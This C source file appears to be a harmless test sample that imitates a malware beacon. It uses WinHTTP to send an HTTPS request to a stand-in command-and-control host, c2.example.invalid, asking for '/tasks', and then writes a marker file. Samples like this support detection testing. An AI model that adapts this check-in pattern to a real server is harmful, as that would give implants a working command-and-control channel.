/* http_beacon_winhttp — the same check-in as http_beacon, over WinHTTP instead of WinINet
 * (WinHttpOpen, WinHttpConnect, WinHttpOpenRequest, WinHttpSendRequest,
 * WinHttpReceiveResponse), as service-hosted implants and newer loaders prefer; HTTPS on 443.
 *
 * Harmless: the C2 is c2.example.invalid, which never resolves (RFC 6761). */
#include "sample.h"
#include <winhttp.h>

int main(void) {
  HINTERNET session = WinHttpOpen(L"mamori-beacon/1.0", WINHTTP_ACCESS_TYPE_DEFAULT_PROXY,
                                  WINHTTP_NO_PROXY_NAME, WINHTTP_NO_PROXY_BYPASS, 0);
  if (!session) return 1;
  const char *result = "http_beacon_winhttp: no connection\r\n";
  HINTERNET conn = WinHttpConnect(session, L"c2.example.invalid", INTERNET_DEFAULT_HTTPS_PORT, 0);
  if (conn) {
    HINTERNET req = WinHttpOpenRequest(conn, L"GET", L"/tasks?id=mamori", NULL,
                                       WINHTTP_NO_REFERER, WINHTTP_DEFAULT_ACCEPT_TYPES,
                                       WINHTTP_FLAG_SECURE);
    if (req) {
      if (WinHttpSendRequest(req, WINHTTP_NO_ADDITIONAL_HEADERS, 0, WINHTTP_NO_REQUEST_DATA, 0, 0,
                             0) &&
          WinHttpReceiveResponse(req, NULL)) {
        char reply[256];
        DWORD got = 0;
        WinHttpReadData(req, reply, sizeof reply, &got);
        result = "http_beacon_winhttp: tasking received\r\n";
      } else {
        result = "http_beacon_winhttp: request failed\r\n";
      }
      WinHttpCloseHandle(req);
    }
    WinHttpCloseHandle(conn);
  }
  WinHttpCloseHandle(session);
  sample_marker("http_beacon_winhttp.txt", result);
  return 0;
}
